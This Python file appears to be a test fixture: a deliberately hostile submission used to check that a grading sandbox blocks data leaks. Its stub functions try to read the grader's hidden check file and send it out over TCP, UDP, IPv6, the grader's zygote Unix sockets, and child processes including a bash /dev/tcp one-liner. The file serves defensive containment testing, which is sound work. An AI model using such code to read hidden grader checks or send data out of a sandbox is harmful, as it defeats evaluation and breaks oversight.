"""Sends data out: a TCP connection and a UDP datagram to a listener on 127.0.0.1 that the test
opened (its ports are filled in), IPv6 loopback, the grader's own Unix sockets (the zygote's), and
the same through child processes (bash's /dev/tcp, a fresh Python). What it would send is the hidden
checks, if it could read them. Once per jail. Implements nothing: must score 0, and the listener must
accept nothing.
"""
import glob
import os
import socket
import subprocess
import sys

HOSTILE = globals().get("HOSTILE", {"token": "t", "port": 9, "udp_port": 9, "tmp": "/nonexistent",
                                    "repo": "/nonexistent"})
_done = []


def _payload():
    try:
        with open(os.path.join(HOSTILE["repo"], "grader", "checks", "linear_algebra.py"), "rb") as handle:
            return handle.read(4096)
    except OSError:
        return f"{HOSTILE['token']}: hello from the jail".encode()


def _try(fn):
    try:
        fn()
        return "sent"
    except BaseException as error:
        return f"{type(error).__name__} {error}"[:60]


def _tcp():
    with socket.create_connection(("127.0.0.1", HOSTILE["port"]), timeout=2) as sock:
        sock.sendall(_payload())


def _tcp6():
    with socket.create_connection(("::1", HOSTILE["port"]), timeout=2) as sock:
        sock.sendall(_payload())


def _udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(_payload()[:1024], ("127.0.0.1", HOSTILE["udp_port"]))


def _unix():
    paths = glob.glob(os.path.join(HOSTILE["tmp"], "kata-zygote-*", "*.sock"))
    paths += glob.glob("/tmp/kata-zygote-*/*.sock")
    if not paths:
        raise FileNotFoundError("no zygote socket in sight")
    for path in paths:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
            sock.settimeout(1)
            sock.connect(path)
            sock.sendall(b"\x10\x00\x00\x00" + b'{"op": "spawn"}')


def _children():
    outcomes = []
    port = HOSTILE["port"]
    commands = [
        ["/bin/bash", "-c", f"echo {HOSTILE['token']} > /dev/tcp/127.0.0.1/{port}"],
        [sys.executable, "-c",
         f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'x')"],
    ]
    for command in commands:
        try:
            done = subprocess.run(command, timeout=5)  # fds 0-2 are /dev/null already
            outcomes.append(f"exit {done.returncode}")
        except BaseException as error:
            outcomes.append(type(error).__name__)
    if "exit 0" not in outcomes:
        raise PermissionError(" ".join(outcomes))


def _phone():
    if not _done:
        _done.append("phoned: " + ", ".join(f"{a.__name__.strip('_')} {_try(a)}"
                                             for a in (_tcp, _tcp6, _udp, _unix, _children)))
    return _done[0]


def _kata(*args, **kwargs):
    raise RuntimeError(_phone())


lu_solve = gram_schmidt_qr = power_iteration = low_rank_approx = numerical_jacobian = _kata
grad_least_squares = grad_quadratic_form = softmax_jacobian = _kata
